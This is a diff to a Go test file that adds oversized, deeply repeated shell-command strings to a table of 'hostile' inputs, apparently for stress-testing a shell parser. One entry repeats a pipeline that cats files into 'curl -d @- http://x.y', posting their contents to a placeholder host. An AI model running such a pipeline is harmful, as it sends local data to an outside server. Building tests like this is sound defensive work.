@@ -18,6 +18,10 @@ func hostile() map[string]string {
 	return map[string]string{
 		"subshells":        full("( "),
 		"deep directories": full("cd a;"),
+		"copied streams":   "ls" + rep(" | tee >(cat)", 2000),
+		"many posts":       "cat" + rep(" a", 8000) + rep(" | curl -d @- http://x.y", 1500),
+		"files to files":   rep("cat x y >> z; cat z;", 3000),
+		"values on values": "x=$(ls)" + rep("; x=$x$(cat $x)", 1500),
 		"deep cwd":         rep("cd a;", 800) + "cat " + rep("x ", 10000),
 		"deep commands":    rep("cd a;", 800) + rep("ls;", 9000),
 		"deep operands":    "cat " + rep(rep("a/", 1000)+"x ", 30),
